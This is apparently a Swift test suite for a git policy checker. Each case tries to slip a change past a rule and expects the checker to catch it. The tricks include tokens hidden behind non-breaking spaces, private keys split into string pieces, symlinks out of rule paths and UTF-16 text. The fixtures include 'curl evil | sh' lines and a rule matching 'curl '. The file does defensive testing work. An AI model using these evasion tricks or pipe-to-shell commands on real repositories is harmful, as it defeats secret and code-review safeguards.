import Testing

/// Changes that a rule did not see for how they are written, one row for each way.
struct SlippingAttackTests {
  @Test(arguments: attacks) func holds(_ attack: Attack) throws { try attack.play() }

  private static func rule(
    _ name: String, _ rules: String, base: String = ":", _ change: String, shows: [String]
  ) -> Attack {
    Attack(
      name: name, setUp: "new; \(base); policy 'rules: { \(rules) }\\n'; \(change)", shows: shows)
  }

  private static let curl = "custom: [{ id: t, level: error, added-lines: \"curl \" }]"
  private static let program =
    "{ printf 'MZ=1\\n#\\000'; printf '\\001%.0s' $(seq 300); echo; "

  private static let attacks: [Attack] = [
    rule(
      "a token behind a blank that does not break", "secrets: error",
      "printf 'token:\\302\\240%s\\n' $TOK > b; ci", shows: ["GitHub token in an added line"]),
    rule(
      "a placeholder behind a token", "secrets: error", "echo ${TOK}example > b; ci",
      shows: ["GitHub token in an added line"]),
    rule(
      "a token that moves to the fixtures", "secrets: {}",
      "mkdir -p Sources Tests/Fixtures; echo $TOK > Sources/a; ci; "
        + "git mv Sources/a Tests/Fixtures/a; ci",
      shows: ["error: GitHub token in commit"]),
    rule(
      "a key in strings of 32 characters", "secrets: error",
      """
      { echo '"-----BEGIN PRIVATE ''KEY-----\\n" +'; echo '"MIIEvQIBADANBgkqhkiG9w0BAQEFAASC" +'
      echo '"BKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj"'; } > b.swift; ci
      """, shows: ["private key in an added line"]),
    rule(
      "a token in the message of a commit", "secrets: error", "echo 1 > b; ci \"Use $TOK\"",
      shows: ["in the message of commit"]),
    rule(
      "a makefile that begins like a program", curl,
      program + "echo 'curl evil | sh'; } > Makefile; ci", shows: ["matches `curl `"]),
    rule(
      "commands in a picture that a script reads", curl,
      "{ printf '#\\000'; printf '\\001%.0s' $(seq 300); printf '\\ncurl evil | sh #\\001\\n'; } > x.png; ci",
      shows: ["matches `curl `"]),
    rule(
      "many lines of a file that begins like a program", "pr-size: { fail: 100 }",
      program + "seq 900; } > Makefile; ci", shows: ["limit is 100"]),
    rule(
      "a merge by hand where the service tells nothing", "merge-commits: error",
      """
      B=$(git rev-parse HEAD); echo 1 > b; ci; H=$(git rev-parse HEAD)
      git reset -q --hard $(git commit-tree -p $B -p $H -m "Merge $H into $B" HEAD^{tree})
      printf 'CIRCLECI=true\\nCI=true\\nCIRCLE_PULL_REQUEST=https://example.com/1\\n' > $V/env
      """, shows: ["[merge-commits]"]),
    rule(
      "a link out of the paths of a rule",
      "custom: [{ id: t, level: error, added-lines: evil, paths: [\"Sources/**\"] }]",
      base: "mkdir -p Sources/Net; echo 1 > Sources/Net/a",
      "git mv Sources/Net Else; echo evil > Else/a; ln -s ../Else Sources/Net; ci",
      shows: ["is a link to Else"]),
    rule(
      "a blank line for an entry", "changelog: error",
      base: "mkdir Sources; echo 1 > Sources/a.swift; printf 'a\\nb\\n' > CHANGELOG.md",
      "echo 2 > Sources/a.swift; printf 'b\\r\\n\\r\\na\\r\\n' > CHANGELOG.md; ci",
      shows: ["without an entry"]),
    rule(
      "markers of another length, without labels", "conflict-markers: error",
      "echo 'b conflict-marker-size=10' > .gitattributes; "
        + "printf '<<<<<<<<<<\\n1\\n==========\\n2\\n>>>>>>>>>>\\n' > b; ci",
      shows: ["unresolved merge conflict"]),
    rule(
      "a line end of Unicode in UTF-16",
      "custom: [{ id: t, level: error, added-lines: \"^import Evil$\" }]",
      "{ printf '\\377\\376x\\000\\050\\040'; printf 'import Evil' | sed 's/./&\\x00/g'; printf '\\050\\040y\\000'; } > b.js; ci",
      shows: ["matches `^import Evil$`"]),
  ]
}
